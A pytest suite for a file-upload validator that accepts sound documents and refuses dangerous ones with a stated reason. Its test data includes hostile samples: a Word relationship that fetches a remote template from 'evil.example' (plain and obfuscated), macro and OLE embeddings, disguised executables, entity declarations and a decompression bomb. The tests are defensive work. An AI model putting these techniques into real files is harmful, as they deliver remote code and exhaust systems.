"""A file is taken if its content is what its name says and nothing in it could act by itself; else one is told why."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.foundation.filing.fields import FILE_PROBLEMS
from app.foundation.filing.looking.kinds import LARGEST_FILE, FileRefused, check_file
from tests import documents as make

pytestmark = pytest.mark.one_engine

SOUND = {
    "plan.pdf": make.pdf(), "PLAN.PDF": make.pdf(), "plan.docx": make.docx(), "plan.xlsx": make.xlsx(),
    "plan.odt": make.odf("odt"), "plan.ods": make.odf("ods"), "plan.png": make.png(), "plan.jpg": b"\xff\xd8\xff\xe0",
    "plan.txt": "café\tnoir\r\n".encode(), "west.csv": b"caf\xe9;noir", "marked.csv": b"\xef\xbb\xbfa,b",
}  # fmt: skip
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TEMPLATE = (
    f'<Relationships xmlns="{make.RELATIONS}"><Relationship Id="r1" Type="{make.KINDS}attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HIDDEN = TEMPLATE.replace('"External"', '"&#69;xternal"').replace("<Relationship ", "<x:Relationship ")
LINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
RELS = "word/_rels/document.xml.rels"
DTD = '<!DOCTYPE w [<!ENTITY a "b">]><w/>'


@pytest.mark.parametrize("name", SOUND)
def test_what_is_taken(name):
    check_file(name, SOUND[name])


def test_a_link_that_one_may_click_is_taken():
    check_file("plan.docx", make.docx(more={RELS: LINK}))


def lying(content: bytes) -> bytes:
    """An archive whose directory says that the longest part is shorter than it is."""
    with zipfile.ZipFile(io.BytesIO(content)) as read:
        part = max(read.infolist(), key=lambda one: one.file_size)
    said, less = part.file_size.to_bytes(4, "little"), (part.file_size - 5).to_bytes(4, "little")
    return content.replace(said, less)


REFUSED = {
    "empty": ("plan.pdf", b"", "empty"),
    "large": ("plan.pdf", make.pdf() + b"x" * LARGEST_FILE, "large"),
    "a program": ("plan.exe", b"MZ\x90", "kind"),
    "a program under another name": ("plan.pdf", b"MZ\x90", "other"),
    "a page": ("plan.pdf.html", b"<html>", "kind"),
    "no ending": ("pdf", make.pdf(), "kind"),
    "half a PDF": ("plan.pdf", make.pdf()[:120], "broken"),
    "a locked PDF": ("plan.pdf", make.pdf(more=b"6 0 obj<</Filter/Standard>>endobj\n/Encrypt 6 0 R\n"), "locked"),
    "a locked PDF, inline": ("plan.pdf", make.pdf(more=b"/Encrypt<</V 1>>"), "locked"),
    "a sheet called a text": ("plan.docx", make.xlsx(), "other"),
    "any archive": ("plan.docx", make.archive({"a.txt": "a"}), "other"),
    "OpenDocument called Word": ("plan.docx", make.odf("odt"), "other"),
    "a sheet called a text, ODF": ("plan.odt", make.odf("ods"), "other"),
    "half an archive": ("plan.docx", make.docx()[:-30], "broken"),
    "an old one": ("plan.docx", OLE + bytes(512), "old"),
    "a locked one": ("plan.xlsx", OLE + bytes(512) + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "a locked one, ODF": ("a.odt", make.odf("odt", more={"META-INF/manifest.xml": "<m:encryption-data/>"}), "locked"),
    "macros by name": ("plan.docm", make.docx(), "macros"),
    "macros": ("plan.docx", make.docx(more={"word/vbaProject.bin": b"x"}), "macros"),
    "macros by kind": ("plan.docx", make.docx(more={make.TYPES: "<T>ms-word.document.macroEnabled</T>"}), "macros"),
    "macros, ODF": ("plan.odt", make.odf("odt", more={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "an OLE object": ("plan.docx", make.docx(more={"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "an OLE object by content": ("plan.docx", make.docx(more={"word/media/a.png": OLE}), "active"),
    "a program within": ("plan.xlsx", make.xlsx(more={"xl/media/image1.png": b"MZ\x90\x00"}), "active"),
    "a script within": ("plan.xlsx", make.xlsx(more={"xl/run.PS1": b"x"}), "active"),
    "a template from elsewhere": ("plan.docx", make.docx(more={RELS: TEMPLATE}), "outside"),
    "the same, written otherwise": ("plan.docx", make.docx(more={RELS: HIDDEN}), "outside"),
    "entities": ("plan.docx", make.docx(more={"word/document.xml": DTD}), "declares"),
    "entities in UTF-16": ("plan.docx", make.docx(more={"word/document.xml": DTD.encode("utf-16")}), "declares"),
    "entities on an edge": ("a.xlsx", make.xlsx(more={"xl/a.xml": "<a/>" + " " * (65536 - 9) + DTD}), "declares"),
    "a bomb": ("plan.docx", make.docx(more={"word/a.xml": bytes(9_000_000)}), "explodes"),
    "many parts": ("plan.docx", make.docx(more={f"word/{n}": b"" for n in range(2001)}), "explodes"),
    "a lie": ("plan.docx", lying(make.docx(more={"word/long.txt": bytes(range(250)) * 9})), "broken"),
    "signs that are no text": ("list.csv", b"a\x00b", "signs"),
    "UTF-16": ("list.csv", "a,b".encode("utf-16"), "signs"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_refused_and_why(case):
    name, content, reason = REFUSED[case]
    with pytest.raises(FileRefused) as caught:
        check_file(name, content)
    assert caught.value.reason == reason
    assert reason in FILE_PROBLEMS


def _with_directory_beyond(content):
    """An archive that says that its directory lies 64 KB further on: its parts would begin before the file."""
    at = content.rindex(b"PK\x05\x06") + 16
    offset = int.from_bytes(content[at : at + 4], "little") + 65_536
    return content[:at] + offset.to_bytes(4, "little") + content[at + 4 :]


def _with_a_name_that_is_none(content):
    """An archive that says of its first name that it is UTF-8, which it is not."""
    at = content.index(b"PK\x01\x02")
    changed = bytearray(content)
    changed[at + 9] |= 0x08
    changed[at + 46] = 0xFF
    return bytes(changed)


@pytest.mark.parametrize("damage", [_with_directory_beyond, _with_a_name_that_is_none])
@pytest.mark.parametrize("name", ["plan.docx", "plan.xlsx", "plan.odt"])
def test_a_directory_that_leads_nowhere_is_told_as_damage(name, damage):
    with pytest.raises(FileRefused) as caught:
        check_file(name, damage(SOUND[name]))
    assert caught.value.reason == "broken"


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_whatever_is_broken_is_refused_in_a_word_and_never_fails(data):
    name = data.draw(st.sampled_from(["plan.docx", "plan.xlsx", "plan.odt", "plan.pdf"]))
    content = bytearray(SOUND[name])
    for _each in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    reason = "empty"
    try:
        check_file(name, bytes(content))
    except FileRefused as refused:
        reason = refused.reason
    assert reason in FILE_PROBLEMS
